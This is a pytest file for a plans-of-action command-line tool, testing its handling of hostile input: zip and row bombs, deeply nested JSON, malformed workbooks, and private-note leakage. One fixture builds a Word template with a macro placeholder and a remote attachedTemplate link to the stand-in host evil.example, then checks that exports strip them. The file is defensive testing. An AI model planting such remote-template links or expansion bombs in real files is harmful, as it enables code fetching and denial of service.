"""Issue 10: hostile and unlucky input. No crash (never exit 3), no hang, the right file,
private stays private; the limits of app.limits refuse in one line before anything is parsed."""

from __future__ import annotations

import io
import json
import os
import signal
import sqlite3
import zipfile
from pathlib import Path

import pytest

from app import limits
from app.cli import main
from tests.conftest import DATA

# the command line over a database file (--db): SQLite
pytestmark = pytest.mark.sqlite_only


@pytest.fixture(autouse=True)
def _no_hang():
    """A test that would block (a FIFO read) fails after 30 s instead of hanging the run."""
    def _timeout(*_args):
        raise TimeoutError("blocked")
    old = signal.signal(signal.SIGALRM, _timeout)
    signal.alarm(30)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


@pytest.fixture
def run(capsys):
    def _run(db: Path | str, *args: str) -> tuple[int, str, str]:
        code = main(["--db", str(db), *args])
        out, err = capsys.readouterr()
        return code, out, err
    return _run


@pytest.fixture
def cli(run, db_path):
    return lambda *args: run(db_path, *args)


def one_line_error(code: int, err: str) -> None:
    assert code == 1, err
    assert err.startswith("poadesk: ") and err.count("\n") == 1, err


def write_json(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def backup(cli, tmp_path: Path, *extra: str) -> dict:
    out = tmp_path / "state.json"
    code, _, err = cli("export", "json", str(out), *extra)
    assert code == 0, err
    return json.loads(out.read_text(encoding="utf-8"))


def first_action(data: dict) -> dict:
    return data["plans"][0]["parts"][0]["sections"][0]["actions"][0]


# -- database paths ---------------------------------------------------------------------------

def test_a_question_mark_in_the_db_path_opens_exactly_that_file(run, seed_db, tmp_path,
                                                                monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "W?x").mkdir()
    db = tmp_path / "W?x" / "som.db"
    code, out, err = run(db, "plans")
    assert code == 0, err
    assert "Plan of Action" in out
    assert db.stat().st_size > 0
    assert not (tmp_path / "W").exists()


def test_a_percent_escape_in_the_db_path_is_not_decoded(run, tmp_path):
    db = tmp_path / "pct%41.db"
    code, _, err = run(db, "plans")
    assert code == 0, err
    assert db.exists() and not (tmp_path / "pctA.db").exists()


def test_a_url_is_a_server_database_not_a_folder(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, out, err = run("postgresql+psycopg://nobody:secret@127.0.0.1:9/poadesk", "plans")
    one_line_error(code, err)
    assert "secret" not in err and "127.0.0.1" in err
    assert list(tmp_path.iterdir()) == []


def test_a_zero_byte_file_is_seeded_with_the_plan(run, tmp_path):
    db = tmp_path / "empty.db"
    db.touch()
    code, out, err = run(db, "plans")
    assert code == 0, err
    assert "(165 action lines)" in out
    code, _, err = run(db, "focal-points", "add", "Lan Nguyen", "--country", "VN")
    assert code == 0, err


def test_a_missing_folder_is_refused_not_created(run, tmp_path):
    db = tmp_path / "no" / "such" / "som.db"
    code, _, err = run(db, "plans")
    one_line_error(code, err)
    assert "folder" in err
    assert not (tmp_path / "no").exists()


def test_a_database_in_a_read_only_folder_can_be_read(run, db_path, monkeypatch):
    import app.store.db as db

    monkeypatch.setattr(db, "folder_is_writable", lambda folder: False)
    code, out, err = run(db_path, "show", "1.1a")
    assert code == 0, err
    assert out.startswith("1.1(a)")
    code, _, err = run(db_path, "focal-points", "add", "Lan Nguyen", "--country", "VN")
    one_line_error(code, err)
    assert "read-only" in err


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes in a read-only folder anyway")
def test_a_real_read_only_folder(run, db_path):
    code, _, err = run(db_path, "plans")  # once, so that it is a WAL database
    assert code == 0, err
    db_path.parent.chmod(0o555)
    try:
        code, out, err = run(db_path, "plans")
        assert code == 0, err
    finally:
        db_path.parent.chmod(0o755)


def test_a_damaged_database_is_one_line(run, db_path):
    with sqlite3.connect(db_path) as conn:
        pages = conn.execute("PRAGMA page_count").fetchone()[0]
        size = conn.execute("PRAGMA page_size").fetchone()[0]
    with db_path.open("r+b") as fh:
        for page in range(2, pages, 3):
            fh.seek(page * size + 100)
            fh.write(b"\xff" * 200)
    code, _, err = run(db_path, "plans")
    assert code == 1, err
    assert err.count("\n") == 1, err


def test_a_fifo_as_the_database_is_refused_at_once(run, tmp_path):
    fifo = tmp_path / "pipe.db"
    os.mkfifo(fifo)
    code, _, err = run(fifo, "plans")
    one_line_error(code, err)
    assert "not a regular file" in err


# -- privacy ----------------------------------------------------------------------------------

def test_a_null_note_keeps_the_local_note_and_its_private_flag(cli, desk, tmp_path):
    action_id = desk.resolve_ref("1.1(a)")
    desk.set_notes(action_id, "Our red line: no date before June.", private=True)
    data = backup(cli, tmp_path)
    action = first_action(data)
    assert action["ref"] == "1.1(a)"
    action["notes"], action["notes_private"] = None, False
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 0, err
    detail = desk.action(action_id)
    assert detail.notes_private and detail.notes == "Our red line: no date before June."
    assert "red line" not in json.dumps(backup(cli, tmp_path))


def test_search_never_prints_a_private_note(cli, desk):
    action_id = desk.resolve_ref("1.1(a)")
    desk.set_notes(action_id, "zebrafish: our fallback is the Vientiane text", private=True)
    code, out, err = cli("search", "zebrafish")
    # not even which line it is on (issue 23): the private note's words find nothing
    assert code == 1 and out == "" and "no action line matches 'zebrafish'" in err
    code, out, _ = cli("search", "ministerial meetings")
    assert code == 0 and out.startswith("1.1(a)")  # the line's own text still finds it
    assert "Vientiane" not in out and "fallback" not in out


# -- crashes become one line ------------------------------------------------------------------

def test_deeply_nested_json_is_refused(cli, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text('{"format": "poadesk", "version": 1, "plans": [], "x": '
                    + "[" * 5000 + "]" * 5000 + "}", encoding="utf-8")
    code, _, err = cli("import", "json", str(deep))
    one_line_error(code, err)
    assert "64 deep" in err


def test_a_lone_surrogate_in_a_file_is_removed_with_a_warning(cli, desk, tmp_path):
    data = backup(cli, tmp_path)
    first_action(data)["lines_to_take"] = "Welcome\ud800 the dialogue."
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 0, err
    assert desk.action(desk.resolve_ref("1.1(a)")).lines_to_take == "Welcome the dialogue."


def test_a_non_utf8_argument_is_cleaned_and_printed(cli, desk):
    name = "Lan Nguy\udcc3n"  # how Python hands over a Latin-1 byte in argv
    code, out, err = cli("focal-points", "add", name, "--country", "VN")
    assert code == 0, err
    assert "removed control characters" in err
    assert desk.focal.find("Lan Nguyn").name == "Lan Nguyn"
    code, out, err = cli("show", "\udcff1.1a")
    assert code == 0 and out.startswith("1.1(a)"), err
    assert err == "poadesk: warning: argument ref: removed control characters Word and Excel " \
                  "reject\n"
    code, out, err = cli("search", "dialogue\udcff")
    assert code in (0, 1) and "unexpected" not in err


@pytest.mark.parametrize("args", [
    ("meeting", "show", "99999999999999999999"),
    ("meeting", "delete", "99999999999999999999"),
    ("show", "1.1a", "--plan", "99999999999999999999"),
    ("export", "brief", "--meeting", "99999999999999999999", "x.docx"),
])
def test_huge_ids_on_the_command_line_are_usage_errors(cli, capsys, args):
    with pytest.raises(SystemExit) as exc:
        cli(*args)
    assert exc.value.code == 2
    assert "too large" in capsys.readouterr().err


def test_a_huge_person_id_is_not_found(cli):
    code, _, err = cli("focal-points", "show", "99999999999999999999")
    one_line_error(code, err)


def test_a_huge_part_number_in_a_backup_is_refused(cli, tmp_path):
    data = backup(cli, tmp_path)
    plan = data["plans"][0]
    plan["title"] = "Another plan"
    plan["parts"][0]["number"] = 10**20
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 1, err
    assert "unexpected" not in err and "too large" in err


def _workbook(tmp_path: Path, cli, name: str = "reg.xlsx") -> Path:
    path = tmp_path / name
    code, _, err = cli("focal-points", "export", str(path))
    assert code == 0, err
    return path


def _rewrite_zip(src: Path, dst: Path, change) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
    return dst


@pytest.mark.parametrize("member", ["xl/workbook.xml", "[Content_Types].xml",
                                    "xl/worksheets/sheet1.xml", "xl/styles.xml"])
@pytest.mark.parametrize("dry_run", [False, True])
def test_a_workbook_with_malformed_xml_is_one_line(cli, tmp_path, member, dry_run):
    good = _workbook(tmp_path, cli)
    bad = _rewrite_zip(good, tmp_path / "bad.xlsx",
                       lambda name, data: data[: len(data) // 2] if name == member else data)
    code, _, err = cli("focal-points", "import", str(bad), *(["--dry-run"] if dry_run else []))
    one_line_error(code, err)


def _patch_central_directory(path: Path, *, method: int | None = None,
                             encrypted: bool = False) -> None:
    """Set the compression method or the encrypted flag of every entry, local and central."""
    data = bytearray(path.read_bytes())
    for sig, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = 0
        while (pos := data.find(sig, start)) >= 0:
            if encrypted:
                data[pos + flag_at] |= 0x1
            if method is not None:
                data[pos + method_at:pos + method_at + 2] = method.to_bytes(2, "little")
            start = pos + 4
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("dry_run", [False, True])
@pytest.mark.parametrize("patch", [{"method": 99}, {"encrypted": True}])
def test_an_unreadable_or_encrypted_zip_is_one_line(cli, tmp_path, patch, dry_run):
    path = _workbook(tmp_path, cli)
    _patch_central_directory(path, **patch)
    code, _, err = cli("focal-points", "import", str(path), *(["--dry-run"] if dry_run else []))
    one_line_error(code, err)
    assert ("encrypted" in err) if "encrypted" in patch else ("compression method" in err)


def test_export_json_to_a_closed_standard_output(cli, monkeypatch):
    monkeypatch.setattr("sys.stdout", None)
    code, _, err = cli("export", "json", "-")
    one_line_error(code, err)


class _Full(io.StringIO):
    def write(self, text):
        raise OSError(28, "No space left on device")


def test_export_json_to_a_full_standard_output(cli, monkeypatch):
    monkeypatch.setattr("sys.stdout", _Full())
    code, _, err = cli("export", "json", "-")
    one_line_error(code, err)
    assert "No space left" in err


# -- limits -----------------------------------------------------------------------------------

def test_import_json_from_dev_zero_is_refused_at_once(cli):
    code, _, err = cli("import", "json", "/dev/zero")
    one_line_error(code, err)
    assert "not a regular file" in err


@pytest.mark.parametrize("command", [("import", "json"), ("import", "plan"),
                                     ("focal-points", "import")])
def test_a_fifo_as_an_import_file_is_refused_at_once(cli, tmp_path, command):
    fifo = tmp_path / "in.xlsx"
    os.mkfifo(fifo)
    code, _, err = cli(*command, str(fifo))
    one_line_error(code, err)
    assert "not a regular file" in err


def test_a_json_file_over_the_size_limit_is_refused(cli, tmp_path, monkeypatch):
    monkeypatch.setitem(limits.MAX_FILE_BYTES, "json", 1000)
    path = backup(cli, tmp_path) and tmp_path / "state.json"
    code, _, err = cli("import", "json", str(path))
    one_line_error(code, err)
    assert "too large" in err and "limit" in err


def test_a_workbook_with_too_many_rows_is_refused(cli, tmp_path, monkeypatch):
    """5 million blank rows compress to 718 KB: the rows are counted as they are read."""
    good = _workbook(tmp_path, cli)
    blank = "".join(f'<row r="{n}"/>' for n in range(10, 5010)).encode()

    def change(name, data):
        if name.startswith("xl/worksheets/sheet"):
            return data.replace(b"</sheetData>", blank + b"</sheetData>")
        return data
    bomb = _rewrite_zip(good, tmp_path / "rows.xlsx", change)
    monkeypatch.setattr(limits, "MAX_WORKBOOK_ROWS", 1000)
    code, _, err = cli("focal-points", "import", str(bomb))
    one_line_error(code, err)
    assert "1,000 rows" in err


def test_a_workbook_that_expands_too_far_is_refused_before_it_is_read(cli, tmp_path,
                                                                      monkeypatch):
    good = _workbook(tmp_path, cli)
    monkeypatch.setitem(limits.MAX_ZIP_UNCOMPRESSED, "workbook", 2000)
    code, _, err = cli("focal-points", "import", str(good))
    one_line_error(code, err)
    assert "expands to" in err


def test_a_template_that_expands_too_far_is_refused(cli, desk, tmp_path, monkeypatch):
    created = desk.meetings.create("SOM", "29th SOM", None, "", "", "1.1(a)")
    template = tmp_path / "t.docx"
    import docx
    docx.Document().save(str(template))
    monkeypatch.setitem(limits.MAX_ZIP_UNCOMPRESSED, "template", 2000)
    code, _, err = cli("export", "brief", "--meeting", str(created.id), str(tmp_path / "b.docx"),
                       "--template", str(template))
    one_line_error(code, err)
    assert "expands to" in err


def test_a_note_over_the_length_limit_is_refused(cli, tmp_path):
    data = backup(cli, tmp_path)
    first_action(data)["notes"] = "x" * (limits.MAX_LONG_TEXT + 1)
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 1 and "too long" in err, err


def test_the_limits_match_the_columns():
    from app.models import Acronym, Part, Plan, Section, Tag
    from app.models.meetings import Meeting

    columns = {"plan title": Plan.title, "part title": Part.title,
               "section title": Section.title, "section number": Section.number,
               "source name": Plan.source_name, "tag": Tag.name, "acronym": Acronym.abbr,
               "acronym expansion": Acronym.expansion, "meeting kind": Meeting.kind,
               "meeting title": Meeting.title, "venue": Meeting.venue,
               "marking": Meeting.marking}
    for name, column in columns.items():
        assert limits.TEXT_LENGTHS[name] == column.type.length, name


# -- templates --------------------------------------------------------------------------------

def _baggage_template(tmp_path: Path) -> Path:
    import docx

    plain = tmp_path / "plain.docx"
    document = docx.Document()
    document.core_properties.keywords = "secret-keyword"
    document.core_properties.comments = "secret-comment"
    document.add_paragraph("body text of the template")
    document.save(str(plain))
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", (
                f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                f'relationships/vbaProject" Target="vbaProject.bin"/>'
                f'<Relationship Id="rIdCm" Type="{rel}/comments" Target="comments.xml"/>'
                f'<Relationship Id="rIdCx" Type="{rel}/customXml" '
                f'Target="../customXml/item9.xml"/>'
                "</Relationships>").encode())
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", (
                b'<Override PartName="/word/comments.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
                b'<Override PartName="/docProps/custom.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.custom-properties+xml"/>'
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>"))
        if name == "_rels/.rels":
            return data.replace(b"</Relationships>", (
                f'<Relationship Id="rIdCu" Type="{rel}/custom-properties" '
                f'Target="docProps/custom.xml"/></Relationships>').encode())
        return data
    hostile = _rewrite_zip(plain, tmp_path / "hostile.docx", change)
    with zipfile.ZipFile(hostile, "a") as z:
        z.writestr("word/vbaProject.bin", b"MACRO-PAYLOAD")
        z.writestr("word/comments.xml", (
            '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:comment w:id="0"><w:p><w:r><w:t>secret-review-comment</w:t></w:r></w:p>'
            "</w:comment></w:comments>"))
        z.writestr("customXml/item9.xml", "<secret>custom-xml-payload</secret>")
        z.writestr("docProps/custom.xml", (
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'custom-properties"><property name="Owner">secret-custom-property</property>'
            "</Properties>"))
        z.writestr("word/_rels/settings.xml.rels", (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rIdT" Type="{rel}/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'))
    _add_attached_template(hostile)
    return hostile


def _add_attached_template(path: Path) -> None:
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
                if b'xmlns:r=' not in data[:2000]:
                    data = data.replace(b"<w:settings ", b'<w:settings xmlns:r="http://schemas.'
                                        b'openxmlformats.org/officeDocument/2006/relationships" ',
                                        1)
            zout.writestr(info, data)
    tmp.replace(path)


def test_a_template_gives_styles_and_page_set_up_but_none_of_its_baggage(cli, desk, tmp_path):
    created = desk.meetings.create("SOM", "29th SOM", None, "", "", "1.1(a)")
    template = _baggage_template(tmp_path)
    out = tmp_path / "brief.docx"
    code, _, err = cli("export", "brief", "--meeting", str(created.id), str(out),
                       "--template", str(template))
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        blob = b"".join(z.read(n) for n in names)
    assert not any("vbaProject" in n or "comments" in n or "customXml" in n
                   or n == "docProps/custom.xml" for n in names), names
    for secret in (b"evil.example", b"attachedTemplate", b"MACRO-PAYLOAD", b"secret-keyword",
                   b"secret-comment", b"secret-review-comment", b"custom-xml-payload",
                   b"secret-custom-property", b"body text of the template"):
        assert secret not in blob, secret


# -- concurrent writers -----------------------------------------------------------------------

def test_the_database_refuses_a_second_active_focal_point_with_the_same_email(cli, monkeypatch):
    """Two `focal-points add` at once both pass the check before either writes: the unique
    index refuses the second."""
    import app.focal.points as points

    args = ("focal-points", "add", "Lan Nguyen", "--country", "VN", "--email", "lan@mofa.gov.vn")
    code, _, err = cli(*args)
    assert code == 0, err
    monkeypatch.setattr(points, "find_duplicate", lambda *a, **k: None)  # the race
    code, _, err = cli("focal-points", "add", "Lan NGUYEN", "--country", "VN",
                       "--email", "LAN@mofa.gov.vn")
    one_line_error(code, err)
    assert "already" in err


def test_a_row_changed_by_another_writer_is_one_line(desk):
    from sqlalchemy.orm.exc import StaleDataError

    from app.errors import DatabaseError

    with pytest.raises(DatabaseError) as exc, desk.transaction():
        raise StaleDataError("UPDATE statement on table 'agenda_items' expected to update "
                             "1 row(s); 0 were matched.")
    assert "\n" not in str(exc.value) and "another" in str(exc.value)


# -- import leniency --------------------------------------------------------------------------

def test_a_plan_text_with_control_characters_is_stored_clean_and_round_trips(cli, desk,
                                                                             tmp_path):
    text = (DATA / "mini-plan.txt").read_text(encoding="utf-8")
    dirty = tmp_path / "dirty.txt"
    dirty.write_text(text.replace("- a) Convene", "- a) Con\x0bvene", 1), encoding="utf-8")
    code, out, err = cli("import", "plan", str(dirty))
    assert code == 0, err
    assert "removed control characters" in err
    data = backup(cli, tmp_path)
    assert "\x0b" not in json.dumps(data, ensure_ascii=False)
    code, _, err = cli("import", "json", str(tmp_path / "state.json"))
    assert code == 0, err


def test_a_plan_title_over_the_column_length_is_refused(cli, tmp_path):
    data = backup(cli, tmp_path)
    data["plans"][0]["title"] = "T" * 501
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 1 and "too long" in err and "500" in err, err
    text = (DATA / "mini-plan.txt").read_text(encoding="utf-8").splitlines()
    text[0] = "P" * 600
    long_title = tmp_path / "long.txt"
    long_title.write_text("\n".join(text), encoding="utf-8")
    code, _, err = cli("import", "plan", str(long_title))
    one_line_error(code, err)
    assert "too long" in err


def test_a_timezone_offset_in_updated_at_is_folded_into_utc(cli, desk, tmp_path):
    data = backup(cli, tmp_path)
    first_action(data)["updated_at"] = "2026-03-05T15:00:00+05:00"
    first_action(data)["status"] = "Achieved"  # a change, made at that time
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    assert code == 0, err
    stamp = desk.action(desk.resolve_ref("1.1(a)")).updated_at
    assert stamp.isoformat() == "2026-03-05T10:00:00"
    assert first_action(backup(cli, tmp_path))["updated_at"] == "2026-03-05T10:00:00Z"


@pytest.mark.parametrize("field, value", [("tags", ["ok", 3]), ("tags", [None]),
                                          ("tags", [["nested"]]), ("updated_at", 20260305),
                                          ("updated_at", True)])
def test_non_text_tags_and_stamps_are_refused_with_where(cli, tmp_path, field, value):
    data = backup(cli, tmp_path)
    first_action(data)[field] = value
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    one_line_error(code, err)
    assert "1.1(a)" in err and field in err


@pytest.mark.parametrize("version", [True, False, 0, -1, 1.0, "1", None])
def test_a_version_that_is_not_a_whole_number_from_1_is_refused(cli, tmp_path, version):
    data = backup(cli, tmp_path)
    data["version"] = version
    code, _, err = cli("import", "json", str(write_json(tmp_path / "in.json", data)))
    one_line_error(code, err)
    assert "version" in err


# -- files written ----------------------------------------------------------------------------

def test_an_export_writes_through_a_symlink(cli, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    target = real / "backup.json"
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "backup.json"
    link.symlink_to(target)
    code, _, err = cli("export", "json", str(link))
    assert code == 0, err
    assert link.is_symlink()
    assert json.loads(target.read_text(encoding="utf-8"))["format"] == "poadesk"
    matrix_target = real / "m.xlsx"
    matrix_target.write_bytes(b"")
    (tmp_path / "m.xlsx").symlink_to(matrix_target)
    code, _, err = cli("export", "matrix", str(tmp_path / "m.xlsx"))
    assert code == 0, err
    assert (tmp_path / "m.xlsx").is_symlink() and zipfile.is_zipfile(matrix_target)
